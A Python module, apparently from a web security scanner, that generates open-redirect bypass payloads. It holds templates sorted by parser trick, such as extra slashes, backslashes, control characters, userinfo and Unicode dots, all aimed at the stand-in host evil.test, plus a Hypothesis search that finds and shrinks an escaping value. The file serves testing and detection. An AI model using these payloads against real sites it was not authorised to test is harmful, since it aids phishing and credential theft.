"""Redirect payloads: templates by class (CATALOGUE, section 6), and the grammar behind them.

The classes are differences between the ways in which validators, frameworks and the URL standard read one
text. All characters stand here raw: sending encodes them once.
"""

import random
import string
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

from hypothesis import HealthCheck, Phase, find, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir
from hypothesis.errors import NoSuchExample

ATTACKER = "evil.test"
# The class without any trick, which is tried first.
PLAIN = "absolute"
_TRIES = 60


@dataclass(frozen=True, slots=True)
class Payload:
    """One value for a redirect parameter, and the class of trick that it is."""

    kind: str
    text: str


# $A the attacker's host, $T the target's host and port, $H its host, $S its scheme, $O the other of http and https.
_TEMPLATES = {
    PLAIN: ("http://$A/", "https://$A/", "HTTP://$A/"),
    "scheme-relative": ("//$A/",),
    "three slashes": ("///$A/",),
    "four or more slashes": ("////$A/", "/////$A/"),
    "slash and backslash": ("/\\$A/", "\\/$A/", "\\\\$A/", "\\/\\/$A/", "/\\/$A/"),
    "inner tab": ("/\t/$A/",),
    "leading blank or control": (
        "\t//$A/",
        " //$A/",
        "\x01//$A/",
        "\x1f//$A/",
        "\thttp://$A/",
        " http://$A/",
        "\x1fhttp://$A/",
    ),
    "tab inside the scheme": ("ht\ttp://$A/",),
    "own scheme without slashes": ("$S:$A",),
    "other scheme without slashes": ("$O:$A",),
    "one slash after the scheme": ("$S:/$A/", "$O:/$A/"),
    "three slashes after the scheme": ("$S:///$A/", "$O:///$A/"),
    "backslashes after the scheme": ("$S:\\\\$A/", "$S:/\\$A/"),
    "other network scheme": ("ftp://$A/",),
    "trusted name as userinfo": ("http://$T@$A/", "//$T@$A/", "http://x:$T@$A/"),
    "trusted name as label": ("http://$H.$A/", "http://$A.$H.$A/", "http://not$H.$A/", "http://$H$A/"),
    "trusted name behind the host": (
        "http://$A/$T",
        "http://$A?$T",
        "http://$A/#$T",
        "http://$A#@$T/",
        "http://$A?@$T/",
        "//$A/?next=http://$T/",
    ),
    "backslash before the trusted name": ("http://$A\\@$T/", "http://$A\\.$T/"),
    "Unicode dots and letters": ("//evil。test/", "//evil．test/", "//ｅvil.test/", "//ev\u00adil.test/"),
    "port and dot": ("//$A:/", "//$A./", "//$A:80/"),
    "path that climbs": ("/.//$A/..//$A/", "/x/../..//$A/", "$T//$A/"),
}


def payloads(scheme: str, authority: str) -> tuple[Payload, ...]:
    """Every template, filled in for a target at `scheme://authority`."""
    other = "http" if scheme == "https" else "https"
    host = urlsplit(f"//{authority}").hostname or authority
    names = {"A": ATTACKER, "T": authority, "H": host, "S": scheme, "O": other}
    return tuple(
        Payload(kind, string.Template(template).substitute(names))
        for kind, templates in _TEMPLATES.items()
        for template in templates
    )


def one_of_each(everything: tuple[Payload, ...]) -> tuple[Payload, ...]:
    """The first payload of each class."""
    first: dict[str, Payload] = {}
    for payload in everything:
        first.setdefault(payload.kind, payload)
    return tuple(first.values())


def shortest_escape(escapes: Callable[[str], bool], scheme: str, authority: str) -> str | None:
    """Search the grammar for a text that escapes and shrink it; None if so many tries find none."""
    set_hypothesis_home_dir(tempfile.gettempdir())  # not into the folder in which the user runs us
    tries = settings(
        database=None,
        deadline=None,
        max_examples=_TRIES,
        suppress_health_check=list(HealthCheck),
        phases=(Phase.generate, Phase.shrink),
    )
    try:
        return find(grammar(scheme, authority), escapes, settings=tries, random=random.Random(0))  # nosec B311
    except NoSuchExample:
        return None


def grammar(scheme: str, authority: str) -> st.SearchStrategy[str]:
    """Texts that a parser may read as another host, the simple ones first so that shrinking ends there."""
    host = st.sampled_from(
        (ATTACKER, f"{ATTACKER}/", f"{authority}@{ATTACKER}", f"{ATTACKER}/?{authority}", f"{ATTACKER}:80/")
    )
    slashes = st.integers(2, 6).map(lambda count: "/" * count)
    mixed = st.text("/\\\t \x0b\x1f", min_size=2, max_size=5)
    schemes = st.sampled_from((f"{scheme}:", "http:", "https:", "HTTPS:", "ht\ttp:", "ftp:"))
    after = st.text("/\\\t", max_size=4)
    return st.one_of(
        st.tuples(slashes, host).map("".join),
        st.tuples(mixed, host).map("".join),
        st.tuples(schemes, after, host).map("".join),
        st.tuples(st.sampled_from(("\t", " ", "\x01", "/", "/x/..", "/.", "/;", "@")), mixed, host).map(
            "".join
        ),
    )


def same_site_controls(path: str, base: str) -> Iterator[str]:
    """Harmless values that a careful guard may accept: a path with a query, the same as a whole URL."""
    mark = "&" if "?" in path else "?"
    yield f"{path}{mark}authproof=control"
    yield f"{base}{path}{mark}authproof=control"
